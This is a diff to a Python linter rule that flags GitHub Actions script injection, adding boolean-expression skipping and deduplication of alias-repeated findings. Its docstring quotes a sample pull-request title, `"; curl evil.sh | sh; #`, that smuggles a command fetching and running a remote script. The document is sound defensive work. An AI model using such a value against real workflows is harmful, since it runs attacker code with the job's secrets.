@@ -165,7 +165,10 @@ def template_injection(wf: Workflow) -> Iterator[Finding]:
     title such as `"; curl evil.sh | sh; #` becomes code running with the job's token and
     secrets. Passing the value through `env:` and quoting
     the variable (`"$TITLE"`) keeps it data, and is not flagged; expanding that variable again
-    as `${{ env.TITLE }}` is the same injection, and is.
+    as `${{ env.TITLE }}` is the same injection, and is. Expressions whose value is true or
+    false (`contains(github.head_ref, 'x')`, `github.event.issue.title == 'y'`) carry no text
+    and are not flagged; `a || b` yields an operand and is. An expression repeated in several
+    steps through a YAML alias is reported once.
 
     ## Why it matters
     Script injection through PR titles and branch names is the most common way public
@@ -179,16 +182,23 @@ def template_injection(wf: Workflow) -> Iterator[Finding]:
             TITLE: ${{ github.event.pull_request.title }}
           run: echo "$TITLE"
     """
+    seen: set[tuple[int, int]] = set()  # a YAML alias repeats one expression in many steps
     for job in wf.jobs:
         for step in job.steps:
             for node, where in _shell_nodes(step):
                 for e in expressions(wf.file, node):
-                    for ctx in attacker_contexts(e.text):
+                    at = (e.span.start.offset, e.span.end.offset)
+                    if at in seen or _is_boolean(e.text):
+                        continue
+                    seen.add(at)
+                    ctxs = list(dict.fromkeys(attacker_contexts(e.text)))
+                    if ctxs:
+                        are = "is" if len(ctxs) == 1 else "are"
                         yield Finding(
                             e.span,
-                            f"{ctx} is expanded into {where} of {step.label} in job {job.id}; "
-                            "pass it through env: and quote the variable",
-                            properties={"context": ctx},
+                            f"{' and '.join(ctxs)} {are} expanded into {where} of {step.label} "
+                            f"in job {job.id}; pass it through env: and quote the variable",
+                            properties={"context": ctxs[0], "contexts": ctxs},
                         )
                     for name in _ENV_REF.findall(e.text):
                         source = _env_value(step, name)
@@ -211,6 +221,27 @@ def template_injection(wf: Workflow) -> Iterator[Finding]:
 
 
 _ENV_REF = re.compile(r"\benv\.([A-Za-z_][A-Za-z0-9_-]*)")
+_STRING_LIT = re.compile(r"'(?:[^']|'')*'")
+_COMPARISON = re.compile(r"==|!=|<=|>=|<|>|^!")
+_BOOL_CALL = re.compile(r"^(?:contains|startsWith|endsWith)\((.*)\)$", re.S)
+
+
+def _is_boolean(expr: str) -> bool:
+    """An expression whose value is true or false (a comparison, `!x`, `contains(...)`), which
+    cannot carry text into the script whatever the context holds. `a || b` and `a && b` are
+    not: they yield one of their operands (`cond && x || y` is the ternary idiom)."""
+    body = _STRING_LIT.sub("''", expr).strip()
+    if "&&" in body or "||" in body:
+        return False
+    m = _BOOL_CALL.match(body)
+    if m is not None:
+        depth = 0
+        for ch in m.group(1):  # the call must span the whole expression
+            depth += {"(": 1, ")": -1}.get(ch, 0)
+            if depth < 0:
+                return False
+        return True
+    return _COMPARISON.search(body) is not None
 
 
 def _env_value(step: Step, name: str) -> YNode | None:
